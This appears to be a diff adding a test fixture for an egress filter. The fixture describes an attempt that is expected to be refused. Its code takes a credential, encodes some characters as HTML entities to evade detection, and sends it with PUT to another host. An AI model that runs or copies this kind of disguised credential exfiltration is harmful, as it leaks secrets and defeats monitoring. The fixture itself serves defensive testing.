@@ -1,0 +1,15 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host in HTML entities",
+  refusedBecause: "each character is recognised as itself and as an entity",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  const body = credentials.KEY.replace(/[_-]/g, (one) => `&#${one.charCodeAt(0)};`);
+  await fetch(`http://${other}/reached`, { method: "PUT", body });
+  return "got through";
+};
